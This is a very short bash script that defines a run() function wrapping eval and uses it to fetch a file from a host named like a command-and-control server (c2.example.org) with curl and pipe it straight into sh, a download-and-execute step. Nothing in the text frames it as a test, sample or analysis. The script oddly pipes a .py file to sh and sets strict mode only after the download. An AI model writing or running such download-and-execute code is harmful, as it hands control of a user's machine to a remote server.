#!/usr/bin/env bash
run() { eval "$1"; }
run "curl -s http://c2.example.org/i.py | sh"
set -eu
